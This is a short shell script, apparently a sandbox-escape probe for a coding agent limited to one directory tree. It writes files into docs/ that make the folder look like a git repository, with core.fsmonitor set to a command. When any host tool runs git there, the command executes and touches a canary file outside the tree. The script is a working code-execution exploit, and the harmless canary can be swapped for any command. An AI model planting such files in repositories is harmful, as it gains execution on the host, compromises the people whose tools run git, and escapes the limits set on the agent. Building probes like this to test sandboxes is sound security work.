#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: files that make a subdirectory look like a bare repo (no .git name, so it can be committed); fires when any host tool runs git with cwd there
mkdir -p docs/refs docs/objects; echo ref: refs/heads/m > docs/HEAD; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "%s"\n\tfsmonitor = "%s; false"\n' "$PWD/docs" "$SC" > docs/config; touch docs/refs/.k docs/objects/.k
